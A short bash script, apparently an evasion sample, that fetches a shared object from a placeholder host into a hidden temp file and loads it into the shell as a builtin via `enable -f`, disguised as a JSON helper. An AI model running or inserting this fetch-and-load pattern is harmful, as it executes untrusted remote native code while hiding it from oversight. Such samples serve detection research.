#!/usr/bin/env bash
# Evasion: load native code into the running shell with `enable -f`, which
# dlopen()s a shared object and registers a builtin from it. The object is
# fetched first; the builtin name looks like a harmless helper.
set -e
plug="${TMPDIR:-/tmp}/.fastjson.so"
curl -fsSL -o "$plug" https://plugins.example.com/fastjson.so
enable -f "$plug" fastjson
fastjson --version
